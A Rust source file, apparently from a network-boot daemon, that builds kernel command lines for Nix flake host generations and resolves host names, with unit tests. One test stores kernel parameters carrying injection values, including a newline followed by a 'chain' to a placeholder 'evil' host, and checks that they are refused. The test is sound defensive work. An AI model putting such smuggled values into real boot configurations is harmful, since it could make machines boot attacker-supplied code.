//! What the boot services serve for flake hosts: each host's current generation (the pinned one,
//! else the newest whose pre-flight passed or was skipped) as kernel, initrd and command line. Answers come from an in-memory snapshot
//! (cheap enough for a packet loop), refreshed from the store whenever generations change.

use std::collections::BTreeMap;
use std::path::PathBuf;
use std::sync::{Arc, RwLock};

use flakeboot_store::{GenerationRecord, Store, StoreError};

use crate::lock::short_rev;

/// Everything needed to boot a flake host's current generation.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FlakeBoot {
    /// `<flake>#<host>`.
    pub qualified: String,
    /// The configuration's name (`alpha`).
    pub host: String,
    /// The generation number.
    pub generation: u32,
    /// Whether the user pinned it (rollback) rather than it being the newest.
    pub pinned: bool,
    /// The kernel file.
    pub kernel: PathBuf,
    /// The initrd file.
    pub initrd: PathBuf,
    /// `init=<toplevel>/init <kernelParams> flakeboot.host=<host> flakeboot.generation=<n>
    /// flakeboot.rev=<short rev>`; the daemon appends per-machine parameters.
    pub cmdline: String,
    /// The short revision in the command line.
    pub rev: String,
}

impl FlakeBoot {
    /// The boot entry of a generation.
    pub fn from_generation(g: &GenerationRecord, pinned: bool) -> FlakeBoot {
        let host = g.host.split_once('#').map_or(g.host.as_str(), |(_, h)| h);
        let nar_hash = g
            .locked_url
            .split(['?', '&'])
            .find_map(|kv| kv.strip_prefix("narHash="))
            .map(percent_decode);
        let rev = short_rev(g.revision.as_deref(), nar_hash.as_deref());
        let mut words = vec![format!("init={}", g.init.display())];
        words.extend(g.kernel_params.iter().cloned());
        words.push(format!("flakeboot.host={host}"));
        words.push(format!("flakeboot.generation={}", g.number));
        words.push(format!("flakeboot.rev={rev}"));
        FlakeBoot {
            qualified: g.host.clone(),
            host: host.to_owned(),
            generation: g.number,
            pinned,
            kernel: g.kernel.clone(),
            initrd: g.initrd.clone(),
            cmdline: words.join(" "),
            rev,
        }
    }
}

/// Undo URL escapes (`%2f` -> `/`) so a hash from a locked URL reads as nix printed it.
fn percent_decode(s: &str) -> String {
    let mut out = Vec::with_capacity(s.len());
    let mut bytes = s.bytes();
    while let Some(b) = bytes.next() {
        if b == b'%' {
            let hex: Vec<u8> = bytes.by_ref().take(2).collect();
            let decoded = std::str::from_utf8(&hex)
                .ok()
                .and_then(|h| u8::from_str_radix(h, 16).ok());
            match decoded {
                Some(d) => out.push(d),
                None => {
                    out.push(b'%');
                    out.extend(hex);
                }
            }
        } else {
            out.push(b);
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// A host name that does not say which host it means.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ResolveError {
    /// Two sources define the name: it must be qualified.
    #[error(
        "host {name:?} is ambiguous: it is defined by {}; write one of them in full",
        candidates.join(" and ")
    )]
    Ambiguous {
        /// The name as written.
        name: String,
        /// Who defines it (`<flake>#<host>`, or `[[hosts]] <name>` for a static host).
        candidates: Vec<String>,
    },
}

#[derive(Debug, Default)]
struct Snapshot {
    /// Current generation by qualified host.
    current: BTreeMap<String, FlakeBoot>,
    /// Every kept generation by (qualified host, number): a machine that fetched its boot
    /// script just before a new generation became current still gets the files it names.
    kept: BTreeMap<(String, u32), FlakeBoot>,
    /// Every host flakes define (built or not): short name -> qualified names.
    defined: BTreeMap<String, Vec<String>>,
}

/// The flake hosts the daemon's `Catalogue` consults.
#[derive(Debug, Clone, Default)]
pub struct CurrentGenerations {
    snapshot: Arc<RwLock<Arc<Snapshot>>>,
}

impl CurrentGenerations {
    /// A current loaded from the store.
    pub fn load(store: &Store) -> Result<CurrentGenerations, StoreError> {
        let current = CurrentGenerations::default();
        current.refresh(store)?;
        Ok(current)
    }

    /// Re-read flakes, generations and pins from the store.
    pub fn refresh(&self, store: &Store) -> Result<(), StoreError> {
        let mut next = Snapshot::default();
        for flake in store.flakes()? {
            for host in &flake.hosts {
                next.defined
                    .entry(host.name.clone())
                    .or_default()
                    .push(format!("{}#{}", flake.name, host.name));
            }
        }
        for host in store.generation_hosts()? {
            let pinned = store.pinned_generation(&host)?;
            // A generation the boot script could not carry (stored before its values were
            // checked) is never booted: the one before it is current instead.
            let all: Vec<_> = store
                .generations(&host)?
                .into_iter()
                .filter(|g| {
                    let problems = crate::generation::generation_problems(g);
                    if !problems.is_empty() {
                        tracing::warn!(
                            host = ?g.host,
                            generation = g.number,
                            problems = %crate::discover::unbootable_values(&problems),
                            "a generation is not booted"
                        );
                    }
                    problems.is_empty()
                })
                .collect();
            // Pinned, else the newest whose pre-flight passed or was skipped.
            let current = flakeboot_store::current_of(pinned, &all).map(|g| g.number);
            for g in &all {
                let boot = FlakeBoot::from_generation(g, pinned == Some(g.number));
                if current == Some(g.number) {
                    next.current.insert(host.clone(), boot.clone());
                }
                next.kept.insert((host.clone(), g.number), boot);
            }
        }
        let mut guard = self
            .snapshot
            .write()
            .unwrap_or_else(std::sync::PoisonError::into_inner);
        *guard = Arc::new(next);
        Ok(())
    }

    fn snapshot(&self) -> Arc<Snapshot> {
        self.snapshot
            .read()
            .unwrap_or_else(std::sync::PoisonError::into_inner)
            .clone()
    }

    /// Which flake host a name means: `<flake>#<host>` as is, or a bare host name that exactly
    /// one flake defines. `Ok(None)`: no flake defines it (it may be a static host).
    /// `is_static`: a `[[hosts]]` entry has this name too, which makes a bare name ambiguous.
    pub fn resolve(&self, name: &str, is_static: bool) -> Result<Option<String>, ResolveError> {
        let snap = self.snapshot();
        if name.contains('#') {
            let known = snap.current.contains_key(name)
                || snap.defined.values().flatten().any(|q| q == name);
            return Ok(known.then(|| name.to_owned()));
        }
        let Some(candidates) = snap.defined.get(name) else {
            return Ok(None);
        };
        match (candidates.as_slice(), is_static) {
            ([only], false) => Ok(Some(only.clone())),
            _ => {
                let mut all = candidates.clone();
                if is_static {
                    all.push(format!("[[hosts]] {name}"));
                }
                Err(ResolveError::Ambiguous {
                    name: name.to_owned(),
                    candidates: all,
                })
            }
        }
    }

    /// The current generation of a flake host (`Ok(None)` when no flake defines the name or the
    /// host was never built).
    pub fn boot(&self, name: &str, is_static: bool) -> Result<Option<FlakeBoot>, ResolveError> {
        let Some(qualified) = self.resolve(name, is_static)? else {
            return Ok(None);
        };
        Ok(self.snapshot().current.get(&qualified).cloned())
    }

    /// Any kept generation of a qualified host (to serve the files a boot script named even if
    /// the host moved on since).
    pub fn generation(&self, qualified: &str, number: u32) -> Option<FlakeBoot> {
        self.snapshot()
            .kept
            .get(&(qualified.to_owned(), number))
            .cloned()
    }

    /// Every built flake host's current generation, by qualified name (for the menu).
    pub fn hosts(&self) -> Vec<FlakeBoot> {
        self.snapshot().current.values().cloned().collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    use std::time::SystemTime;

    use flakeboot_store::{FlakeHostRecord, FlakeRecord};

    fn generation(host: &str, rev: Option<&str>) -> GenerationRecord {
        GenerationRecord {
            host: host.into(),
            number: 0,
            flake_url: "path:/f".into(),
            locked_url: "path:/f?lastModified=1&narHash=sha256-4GgMM1539%2bcpWLeRZ".into(),
            revision: rev.map(str::to_owned),
            kernel: "/nix/store/k/bzImage".into(),
            initrd: "/nix/store/r/initrd".into(),
            init: "/nix/store/t/init".into(),
            store_paths: vec![],
            kernel_params: vec!["console=ttyS0".into(), "quiet".into()],
            built_at: SystemTime::UNIX_EPOCH,
            build_id: 1,
            log: "/l".into(),
            gc_roots: vec![],
            preflight: flakeboot_store::PreflightRecord::skipped("off"),
        }
    }

    fn flake(name: &str, hosts: &[&str]) -> FlakeRecord {
        FlakeRecord {
            name: name.into(),
            url: format!("path:/{name}"),
            locked_url: None,
            revision: None,
            locked_at: None,
            hosts: hosts
                .iter()
                .map(|h| FlakeHostRecord {
                    name: (*h).into(),
                    unbootable: None,
                    kernel_file: "bzImage".into(),
                    kernel_params: vec![],
                })
                .collect(),
            error: None,
        }
    }

    #[test]
    fn cmdline_has_init_params_and_what_was_built() {
        let mut g = generation("lab#alpha", Some("0123456789abcdef0123"));
        g.number = 3;
        let b = FlakeBoot::from_generation(&g, false);
        assert_eq!(
            b.cmdline,
            "init=/nix/store/t/init console=ttyS0 quiet flakeboot.host=alpha \
             flakeboot.generation=3 flakeboot.rev=0123456789ab"
        );
        let path = FlakeBoot::from_generation(&generation("lab#alpha", None), false);
        assert!(
            path.cmdline.ends_with("flakeboot.rev=4GgMM1539cpW"),
            "{}",
            path.cmdline
        );
    }

    /// A generation stored before its values were checked (kernel parameters the boot script
    /// cannot carry) is not booted: the one before it stays current, and every other is kept.
    #[test]
    fn a_stored_generation_the_boot_script_cannot_carry_is_never_current() {
        let tmp = tempfile::tempdir().unwrap();
        let store = Store::open(tmp.path()).unwrap();
        store.put_flake(&flake("lab", &["alpha"])).unwrap();
        let good = store
            .add_generation(&generation("lab#alpha", Some("aaaa")))
            .unwrap();
        for bad in ["root=${x}", "||", "a\nchain http://evil/"] {
            let mut g = generation("lab#alpha", Some("bbbb"));
            g.kernel_params.push(bad.into());
            store.add_generation(&g).unwrap();
        }
        let cat = CurrentGenerations::load(&store).unwrap();
        let alpha = cat.boot("alpha", false).unwrap().unwrap();
        assert_eq!(alpha.generation, good.number);
        assert_eq!(cat.hosts().len(), 1);
        assert!(cat.generation("lab#alpha", good.number + 1).is_none());
    }

    #[test]
    fn percent_escapes_are_decoded() {
        assert_eq!(percent_decode("a%2fb%2Bc%3d%zz%"), "a/b+c=%zz%");
    }

    #[test]
    fn bare_names_resolve_unless_ambiguous() {
        let tmp = tempfile::tempdir().unwrap();
        let store = Store::open(tmp.path()).unwrap();
        store.put_flake(&flake("lab", &["alpha", "beta"])).unwrap();
        store.put_flake(&flake("prod", &["beta"])).unwrap();
        store
            .add_generation(&generation("lab#alpha", Some("aaaa")))
            .unwrap();
        let second = store
            .add_generation(&generation("lab#alpha", Some("bbbb")))
            .unwrap();
        let cat = CurrentGenerations::load(&store).unwrap();

        let alpha = cat.boot("alpha", false).unwrap().unwrap();
        assert_eq!((alpha.generation, alpha.pinned), (second.number, false));
        assert_eq!(cat.boot("lab#alpha", false).unwrap(), Some(alpha));
        // Defined but never built.
        assert_eq!(
            cat.resolve("lab#beta", false).unwrap().as_deref(),
            Some("lab#beta")
        );
        assert_eq!(cat.boot("prod#beta", false).unwrap(), None);
        assert_eq!(cat.boot("nope", false).unwrap(), None);
        let err = cat.boot("beta", false).unwrap_err();
        assert_eq!(
            err.to_string(),
            "host \"beta\" is ambiguous: it is defined by lab#beta and prod#beta; write one of them in full"
        );
        let err = cat.resolve("alpha", true).unwrap_err().to_string();
        assert!(err.contains("[[hosts]] alpha"), "{err}");

        // Rollback: pin generation 1, refresh.
        store.pin_generation("lab#alpha", Some(1)).unwrap();
        cat.refresh(&store).unwrap();
        let pinned = cat.boot("alpha", false).unwrap().unwrap();
        assert_eq!((pinned.generation, pinned.pinned), (1, true));
        assert!(pinned.cmdline.contains("flakeboot.rev=aaaa"));
        assert_eq!(cat.hosts().len(), 1);
        // Both kept generations stay servable.
        assert_eq!(cat.generation("lab#alpha", 2).unwrap().generation, 2);
        assert!(
            cat.generation("lab#alpha", 2)
                .unwrap()
                .cmdline
                .contains("rev=bbbb")
        );
        assert_eq!(cat.generation("lab#alpha", 3), None);
    }

    /// A generation whose pre-flight failed (or has not passed yet) is kept and servable, but
    /// the one before it stays current until the user pins it.
    #[test]
    fn a_generation_that_failed_preflight_is_servable_but_not_current() {
        use flakeboot_store::PreflightState;
        let tmp = tempfile::tempdir().unwrap();
        let store = Store::open(tmp.path()).unwrap();
        store.put_flake(&flake("lab", &["alpha"])).unwrap();
        store
            .add_generation(&generation("lab#alpha", Some("aaaa")))
            .unwrap();
        for state in [PreflightState::Failed, PreflightState::Queued] {
            let mut g = generation("lab#alpha", Some("bbbb"));
            g.preflight.state = state;
            store.add_generation(&g).unwrap();
        }
        let cat = CurrentGenerations::load(&store).unwrap();
        assert_eq!(cat.boot("alpha", false).unwrap().unwrap().generation, 1);
        assert_eq!(cat.generation("lab#alpha", 2).unwrap().generation, 2);
        assert_eq!(cat.generation("lab#alpha", 3).unwrap().generation, 3);
        store.pin_generation("lab#alpha", Some(2)).unwrap();
        cat.refresh(&store).unwrap();
        let pinned = cat.boot("alpha", false).unwrap().unwrap();
        assert_eq!((pinned.generation, pinned.pinned), (2, true));
    }
}
